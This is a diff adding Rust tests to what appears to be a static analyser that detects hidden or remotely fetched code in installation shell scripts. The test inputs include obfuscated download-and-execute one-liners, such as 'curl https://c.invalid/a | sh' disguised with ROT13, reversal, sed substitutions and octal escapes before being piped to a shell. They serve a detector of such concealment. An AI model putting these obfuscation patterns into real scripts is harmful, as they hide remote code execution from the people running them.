@@ -173,3 +173,81 @@ fn what_a_subshell_checks_is_checked_behind_it_where_its_failure_ends_the_script
     assert!(is_checked("{fetch}\n({check} || exit 1) || exit 1"));
     assert!(is_checked("set -e\n{fetch}\n({check} || exit 1)"));
 }
+
+/// What an installation runs that is hidden, by what hides it, and whether it fetches what it runs.
+fn hidden_by(script: &str) -> (Vec<String>, bool) {
+    let found = installed("sh", "a.sh", &format!("{script}\n"));
+    let runs = |kind: SourceKind| {
+        let mut flows: Vec<String> = found
+            .flows
+            .iter()
+            .filter(|flow| flow.source == kind && flow.sink == SinkKind::Process)
+            .map(|flow| flow.source_name.clone())
+            .collect();
+        flows.dedup();
+        flows
+    };
+    let fetched = runs(SourceKind::Remote);
+    (
+        runs(SourceKind::Decoded),
+        fetched.iter().any(|name| name.ends_with("c.invalid")),
+    )
+}
+
+#[test]
+fn a_text_that_a_filter_changed_and_nobody_can_compute_is_told_where_it_is_run() {
+    for (script, filter) in [
+        (
+            "echo 'qvey uggcf://p.vainyvq' | sed 's/[a-z]/x/g' | sh",
+            "sed",
+        ),
+        ("echo 'a b c d e f g h' | awk '{print $2}' | bash", "awk"),
+        ("printf '%s' 'what is it then' | ./turn | sh", "turn"),
+        (
+            "echo 'what is it then' | sed 's/./x/' | tee log | sh",
+            "sed",
+        ),
+        ("sed -n 's/x/y/p' <<EOF | sh\nwhat is it then\nEOF", "sed"),
+        (
+            "sh -c \"$(echo 'what is it then' | awk '{print $1}')\"",
+            "awk",
+        ),
+        ("eval \"$(echo 'what is it then' | grep -o 'i.*')\"", "grep"),
+        ("bash <(echo 'what is it then' | sort)", "sort"),
+        ("sh <<< \"$(echo 'what is it then' | sort)\"", "sort"),
+        ("(echo 'what is it'; echo 'then') | sort | python3", "sort"),
+        ("awk '{print $1}' <<< 'what is it then' | node", "awk"),
+    ] {
+        assert_eq!(hidden_by(script).0, [filter], "{script}");
+    }
+}
+
+#[test]
+fn a_text_that_a_filter_changed_is_read_where_it_can_be_computed() {
+    for script in [
+        "echo 'cuXrl https://c.invalid/a @ sh' | sed 's/X//; s/@/|/' | sh",
+        "echo 'phey uggcf://p.vainyvq/n | fu' | tr a-z n-za-m | sh",
+        "echo 'hs | a/dilavni.c//:sptth lruc' | rev | sh",
+        "echo '##curl https://c.invalid/a | sh' | cut -c3- | sh",
+        "printf '\\143url %s | sh' https://c.invalid/a | sh",
+        "sed 's/@/|/' <<EOF | sh\ncurl https://c.invalid/a @ sh\nEOF",
+        "sh <<< 'curl https://c.invalid/a | sh'",
+        "{ echo 'curl https://c.invalid/a @ sh'; echo ls; } | sed 's/@/|/' | sh",
+    ] {
+        assert!(hidden_by(script).1, "{script}");
+    }
+}
+
+#[test]
+fn a_text_that_is_changed_and_not_run_is_told_nowhere() {
+    for script in [
+        "V=$(echo 'release 1.2.3 of it' | awk '{print $2}'); echo \"$V\" > log",
+        "echo 'what is it then' | sort > log; sh other.sh",
+        "echo 'what is it then' | sed 's/what/ls/' | sh",
+        "echo 'y' | ./ask | sh",
+        "ls | sort | sh",
+    ] {
+        let (hidden, fetched) = hidden_by(script);
+        assert!(hidden.is_empty() && !fetched, "{script}: {hidden:?}");
+    }
+}
